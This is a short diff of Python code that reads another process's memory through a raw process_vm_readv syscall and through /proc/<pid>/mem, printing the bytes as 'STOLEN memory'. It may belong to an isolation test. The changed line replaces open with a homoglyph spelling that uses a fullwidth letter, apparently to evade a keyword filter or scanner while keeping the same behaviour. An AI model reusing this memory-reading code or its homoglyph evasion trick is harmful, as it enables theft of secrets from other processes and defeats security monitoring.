@@ -46,7 +46,7 @@ def read(pid):
     if call(310, 270, pid, mine, 1, place, 1, 0) == 16:
         print(f'STOLEN memory of {pid}: {text.raw!r}', flush=True)
     try:
-        with open(f'/proc/{pid}/mem', 'rb', 0) as memory:
+        with ｏpen(f'/proc/{pid}/mem', 'rb', 0) as memory:
             memory.seek(place[0])
             print(f'STOLEN memory of {pid}: {memory.read(16)!r}', flush=True)
     except OSError as error:
